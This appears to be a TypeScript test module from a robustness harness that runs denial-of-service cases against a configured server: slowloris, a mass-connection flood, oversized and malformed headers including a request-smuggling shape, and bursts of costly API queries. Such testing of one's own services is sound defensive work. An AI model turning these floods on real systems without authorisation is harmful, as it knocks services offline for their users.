/** Connections that are too many, too slow or too large, and requests that cost much to answer. */
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { atMost, type Case } from './case.ts';
import type { Target } from './target.ts';

/** Connected, or not: a server may refuse. */
function open(base: string): Promise<Socket | null> {
  const { hostname, port } = new URL(base);
  return new Promise((done) => {
    const socket = connect(Number(port), hostname, () => done(socket));
    socket.on('error', () => done(null));
    socket.resume();
  });
}

/** `count` connections; each is given to `use` every second for `seconds`. */
async function hold(base: string, count: number, seconds: number, use: (socket: Socket, s: number) => void) {
  const sockets = (await Promise.all(Array.from({ length: count }, () => open(base)))).filter((one) => one !== null);
  for (let s = 0; s < seconds; s++) {
    for (const socket of sockets) if (socket.writable) use(socket, s);
    await sleep(1000);
  }
  for (const socket of sockets) socket.destroy();
}

const raw = async ({ base }: Target, text: string): Promise<void> => {
  const socket = await open(base);
  if (socket === null) return;
  socket.write(text, 'latin1');
  await Promise.race([new Promise((done) => socket.on('close', done)), sleep(3_000)]);
  socket.destroy();
};

const EXPENSIVE = [
  '/api/collectives?from=0&to=4102444800000&points=1000',
  '/api/memory/heatmap?by=gpu&from=0&to=4102444800000&bins=1000',
  '/api/memory/oom?from=0&to=4102444800000',
  '/api/traces?limit=1000&attributes=a%3Db%26%26c%3Dd',
  '/api/jobs?limit=1000&internal=true',
  '/api/clusters',
  '/api/alerts',
  '/jobs',
  '/traces',
];

export const connectionCases: readonly Case[] = [
  {
    name: 'slowloris',
    async attack({ base }) {
      await hold(base, 2_000, 15, (socket, s) =>
        socket.write(s === 0 ? 'GET /api/jobs HTTP/1.1\r\n' : `x-${s}: y\r\n`),
      );
      return undefined;
    },
  },
  {
    name: 'connections',
    async attack({ base }) {
      const host = new URL(base).host;
      await hold(base, 4_000, 10, (socket) => socket.write(`GET /api/health HTTP/1.1\r\nhost: ${host}\r\n\r\n`));
      return undefined;
    },
  },
  {
    name: 'huge-header',
    async attack(target) {
      const host = new URL(target.base).host;
      const shapes = [
        `GET /api/jobs HTTP/1.1\r\nhost: ${host}\r\nx: ${'a'.repeat(4 * 1024 ** 2)}\r\n\r\n`,
        `GET /api/jobs HTTP/1.1\r\nhost: ${host}\r\n${'x: y\r\n'.repeat(200_000)}\r\n`,
        `GET /api/jobs HTTP/1.1\r\nhost: ${host}\r\ncookie: ${'a=b; '.repeat(3_000)}\r\n\r\n`,
        `GET /api/jobs?${'limit=1&'.repeat(1_900)} HTTP/1.1\r\nhost: ${host}\r\n\r\n`,
        `GET ${'/..'.repeat(5_000)} HTTP/1.1\r\nhost: ${host}\r\n\r\n`,
        `GET /api/traces?attributes=${'a%3Db%26%26'.repeat(1_300)} HTTP/1.1\r\nhost: ${host}\r\n\r\n`,
        `POST /v1/traces HTTP/1.1\r\nhost: ${host}\r\ntransfer-encoding: chunked\r\ncontent-length: 5\r\n\r\n0\r\n\r\n`,
        `POST /v1/traces HTTP/1.1\r\nhost: ${host}\r\ntransfer-encoding: chunked\r\n\r\n${'1;'.padEnd(60_000, 'x')}\r\na\r\n`,
      ];
      await atMost(8, 200, (i) => raw(target, shapes[i % shapes.length] ?? ''));
      return undefined;
    },
  },
  {
    name: 'expensive-queries',
    async attack(target) {
      const statuses = new Map<number, number>();
      await atMost(60, 600, async (i) => {
        const { status } = await target.ask(EXPENSIVE[i % EXPENSIVE.length] ?? '/');
        statuses.set(status, (statuses.get(status) ?? 0) + 1);
      });
      process.stderr.write(`expensive: ${[...statuses].map(([status, count]) => `${count} x ${status}`).join(', ')}\n`);
      return undefined;
    },
  },
];
